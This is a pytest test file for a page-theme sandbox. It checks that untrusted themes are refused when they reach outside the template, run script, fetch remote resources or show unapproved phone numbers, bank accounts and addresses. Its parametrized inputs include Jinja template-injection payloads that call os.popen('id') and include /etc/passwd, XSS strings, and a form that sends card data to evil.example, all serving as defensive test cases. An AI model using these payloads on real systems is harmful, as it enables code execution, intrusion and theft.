"""A theme may be a stranger's: it can look like anything, and do nothing."""

import gzip
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fallback.core.errors import ContentError
from fallback.page.themes.slim import slim
from fallback.page.themes.theme import Sheet, Theme
from fallback.wire import shipped
from tests.page.conftest import Rendering

HEAD = (
    '<meta http-equiv="Content-Security-Policy" content="{{ policy }}">'
    '<meta name="generator" content="fallback">'
)
VIEW = {"title": "T", "words": ["a"], "more": {"x": 1}}
SHOP = {
    "title": "Open again on 22 November 2026, 15:30",
    "home": "https://status.example",
    "shop_url": "https://kwiaty.example/?a=1&b=2",
    "contact": {
        "phone": "+48 600 100 200",
        "tel": "tel:+48600100200",
        "email": "600100200@elsewhere.example",
        "mailto": "mailto:600100200@elsewhere.example?subject=x",
        "hours": "8–20",
        "links": [{"name": "Facebook", "href": "https://www.facebook.com/kwiaty"}],
    },
    "log": {
        "entries": [
            {"id": "2026-11-22t1015", "html": '<p>See <a href="https://kwiaty.example/'
             '?c=3&amp;d" rel="noopener">this</a> of 10,000 orders.</p>'}
        ]
    },
    "languages": [{"href": "/_fallback/en.html"}],
}  # fmt: skip
REACH = '<a href="{{ contact.tel }}">x</a><a href="{{ contact.mailto }}">x</a>'


def sheet(page: str, style: str = "p { color: red }", **more: str) -> Sheet:
    return Sheet(Theme("odd", {"page.html": HEAD + page, "style.css": style, **more}))


@pytest.mark.parametrize(
    "page",
    [
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ title.__class__ }}",
        "{{ self.__init__.__globals__ }}",
        "{{ lipsum.__globals__['os'].popen('id').read() }}",
        "{{ joiner.__init__.__globals__ }}",
        "{{ namespace.__init__.__globals__ }}",
        "{{ '%s'.__mod__.__self__.__class__ }}",
        "{{ '{0.__class__.__init__.__globals__}'.format(title) }}",
        "{{ (title|attr('format')) }}{{ title|attr('__class__') }}",
        "{% set f = '{0.__class__}'.format %}{{ f(title) }}",
        "{{ words.append('x') }}",
        "{{ more.update({'a': 1}) }}",
        "{% include '/etc/passwd' %}",
        "{% include '../../../etc/passwd' %}",
        "{% extends 'other.html' %}",
        "{% import 'os' as os %}",
        "{{ 1/0 }}",
        "{{ nothing_of_that_name }}",
        "{% if %}",
        "{{ title",
        "{{ words['x']['y'] }}",
        "{{ title + 1 }}",
    ],
)
def test_a_theme_that_reaches_out_is_refused(page: str) -> None:
    """No attribute, file or object outside what it was given."""
    with pytest.raises(ContentError) as caught:
        print(sheet(page).render(VIEW))

    assert caught.value.code == 2
    assert "the theme odd cannot be used" in str(caught.value)


@pytest.mark.parametrize(
    "page",
    [
        "<script>alert(1)</script>",
        "<SCRIPT src=x></SCRIPT>",
        "<form action=https://evil.example><input name=card></form>",
        "<iframe src=x></iframe>",
        "<img src=https://evil.example/x.png>",
        "<p onclick='x'>x</p>",
        "<p style='background:url(x)'>x</p>",
        "<a href='javascript:alert(1)'>x</a>",
        "<a href=' javascript:alert(1)'>x</a>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<link rel=canonical href=/>",
        "<link rel=icon href=https://evil.example/x.png>",
        "<meta http-equiv=refresh content='0;url=x'>",
        "<base href=https://evil.example>",
        "<svg onload=x>",
        "{{ '<script>'|safe }}",
        "{% autoescape false %}{{ '<object>' }}{% endautoescape %}",
        "<a title='>' onclick=x>",
    ],
)
def test_a_theme_that_runs_asks_or_fetches_is_refused(page: str) -> None:
    """What comes out is looked at, however it came about."""
    with pytest.raises(ContentError):
        sheet(page).render(VIEW)


@pytest.mark.parametrize(
    "style",
    [
        "@import 'https://evil.example/x.css';",
        "p { background: url(https://evil.example) }",
        "p { background: URL (x) }",
        "p { background: image-set('x' 1x) }",
    ],
)
def test_a_style_that_loads_something_is_refused(style: str) -> None:
    with pytest.raises(ContentError):
        sheet("<p>", style)


@pytest.mark.parametrize(
    ("style", "why"),
    [
        ("p{}</style><script>", "its style ends before it is over: </style><script>"),
        (
            "p::before{content:'</style>'}",
            "its style ends before it is over: </style>'}",
        ),
        ("p { background: u\\72l(x) }", "its style has a backslash"),
        ("p::after{content:'Tel +48 700 111 222'}", "its style says +48 700 111 222"),
        ("p::after{content:'700'}b::after{content:'123 456'}", "says 700 123 456"),
        ("p{--a:'700,123,456'}", "its style says 700,123,456"),
        ("p::after{content:'pay at www.evil.example'}", "says www.evil.example"),
        ("p{counter-reset:a 700 b 123 c 456}", "says counter-reset:a 700 b 123 c 456"),
    ],
)
def test_a_style_that_says_something_is_told_what(style: str, why: str) -> None:
    with pytest.raises(ContentError) as caught:
        sheet("<p>", style)

    assert why in str(caught.value)


@pytest.mark.parametrize(
    "page",
    [
        REACH,
        '<a href="{{ shop_url }}">x</a>{{ log.entries[0].html|safe }}',
        '<a href="{{ home }}{{ languages[0].href }}">x</a><a href="#a"></a>',
        '<link rel="alternate" href="{{ home }}{{ languages[0].href }}">',
        '<a href="{{ contact.links[0].href }}">{{ contact.phone }}</a> 8–20',
        '<p>{{ contact.email.partition("@")[0] }}<b>@</b>elsewhere.example</p>',
        '<p title="{{ title }}">{{ contact.phone }}{{ contact.hours }} {{ title }}</p>',
        "<td>{{ contact.hours }}</td><td>{{ contact.hours }}</td><td>10:15</td>",
        '<p id="{{ log.entries[0].id }}">© 2020–2026, 1 of 12, 10:15</p>',
        '<meta name="viewport" content="width=device-width, initial-scale=1">',
    ],
)
def test_a_theme_may_say_and_link_what_it_was_given(page: str) -> None:
    assert sheet(page + REACH).render(SHOP)


@pytest.mark.parametrize(
    ("page", "why"),
    [
        (
            '<a href="https://evil.example/pay">x</a>',
            "evil.example/pay>: no address that it",
        ),
        ('<a href="{{ home }}.evil.example">x</a>', "status.example.evil.example>"),
        ('<a href="{{ shop_url }}/../x">x</a>', "b=2/../x>"),
        ('<a href="{{ title }}">x</a>', "<a href=Open again"),
        ('<a href="{{ contact.tel }}1">x</a>', "<a href=tel:+486001002001>"),
        ('<a href="sms:+48700111222">x</a>', "<a href=sms:+48700111222>"),
        ("<p>+48 700 111 222</p>", "its page says +48 700 111 222"),
        ("<ul><li>700</li><li>111</li><li>222</li></ul>", "says 700"),
        ("<p>7<b>00 1</b>11 222</p>", "its page says 700 111 222"),
        ("<p>70<span>01</span>11222</p>", "its page says 700111222"),
        ("<p>{{ 700111 }}{{ 222 }}</p>", "its page says 700111222"),
        ("<p>700 1{{ title }}11 222</p>", "its page says 700 111 222"),
        ("<p>&#55;00&nbsp;111&#8239;222</p>", "its page says 700 111 222"),
        ("<p title='call 700 111 222'>", "its page says 700 111 222"),
        ("<p data-x=700111222>", "its page says 700111222"),
        ("<ol start=700111222><li></ol>", "its page says 700111222"),
        ("<p>PL61 1090 1014 0000 0712 1981 2874</p>", "says PL61 1090 1014"),
        ("<p>pay at www.evil.example/x</p>", "its page says www.evil.example/x"),
        ("<p>me@evil.example</p>", "its page says me@evil.example"),
        ("<meta property=og:url content=https://evil.example>", "says https://evil"),
    ],
)  # fmt: skip
def test_a_theme_that_says_more_is_told_what(page: str, why: str) -> None:
    with pytest.raises(ContentError) as caught:
        sheet(page + REACH).render(SHOP)

    assert why in str(caught.value)


BETWEEN = st.sampled_from(
    ["<b></b>", "<td>", "<li>", " ", "&nbsp;", "<!-- x -->", "-", "{{''}}", "<wbr>",
     "<br>", "<span\n>", "</p><p>", "{{ title }}", "<i title='>'>", "{# x #}", "&shy;"]
)  # fmt: skip


@given(
    st.from_regex(r"[7-9][0-9]{2} [1-9][0-9]{2} [0-6][0-9]{2}", fullmatch=True), BETWEEN
)
def test_no_markup_of_a_theme_hides_a_number(number: str, between: str) -> None:
    page = f"<p>Tel {number.replace(' ', between)} now{REACH}"

    with pytest.raises(ContentError, match="its page says"):
        sheet(page).render(SHOP)


def test_what_is_filled_in_is_escaped_everywhere() -> None:
    """Whatever the file is called, and in attributes too."""
    made = sheet(
        "<p title=\"{{ title }}\">{% include 'part.txt' %}</p>",
        **{"part.txt": "{{ title }}"},
    )

    body = made.render({"title": "\"'><script>"}).decode()

    assert body.endswith(
        '<p title="&#34;&#39;&gt;&lt;script&gt;">&#34;&#39;&gt;&lt;script&gt;</p>'
    )


@pytest.mark.parametrize(
    ("part", "head"),
    [
        ("no policy", '<meta name="generator" content="fallback">'),
        ("generator", HEAD.partition('<meta name="gen')[0]),
        ("generator", HEAD.replace('"fallback">', "'fallback'>")),
        ("<p> before the policy", f"<p>x</p>{HEAD}"),
        ("text before the policy", f"<html>x{HEAD}"),
        ("our own element before the policy", "<style>{{ style|safe }}</style>" + HEAD),
        ("no policy", f"<!-- {HEAD.replace('<', '').replace('>', '')} -->"),
        ("text before the policy", "{{ policy }}" + HEAD),
    ],
)
def test_a_page_without_its_policy_or_its_mark_is_refused(part: str, head: str) -> None:
    """It could run what slips in, or be taken for somebody else's by host and gate."""
    theme = Theme("odd", {"page.html": head, "style.css": "p {}"})

    with pytest.raises(ContentError, match=part):
        Sheet(theme).render(VIEW)


@pytest.mark.parametrize("missing", ["page.html", "style.css"])
def test_a_theme_without_a_part_is_named(missing: str) -> None:
    files = {"page.html": "x", "style.css": "y"}
    del files[missing]

    with pytest.raises(ContentError, match=f"{missing} is missing"):
        Sheet(Theme("odd", files))


def test_an_unknown_theme_is_answered_with_those_there_are(
    rendering: Rendering,
) -> None:
    for name in ("planes", "..", "../plain", "", "/etc"):
        with pytest.raises(ContentError) as caught:
            rendering(theme=name)
        assert str(caught.value.next) == "choose one of: brand, letter, plain"


def test_every_theme_we_ship_speaks_the_readers_direction() -> None:
    """Logical properties only, so that right-to-left languages need no other style."""
    folders = [each for each in shipped.themes().iterdir() if each.is_dir()]

    assert len(folders) >= 2
    for folder in folders:
        style = Path(folder / "style.css").read_text("utf-8")
        for word in ("-left", "-right", " left:", " right:", "margin-top"):
            assert word not in style, f"{folder.name}: {word}"
        assert "prefers-color-scheme: dark" in style
        assert "@media print" in style


@pytest.mark.parametrize("theme", ["plain", "brand", "letter"])
def test_a_style_we_ship_is_a_small_part_of_the_page(theme: str) -> None:
    """The whole page has to arrive at once, and the words matter more."""
    style = (shipped.themes() / theme / "style.css").read_text("utf-8")

    assert len(gzip.compress(slim(style).encode(), 9)) <= 1300
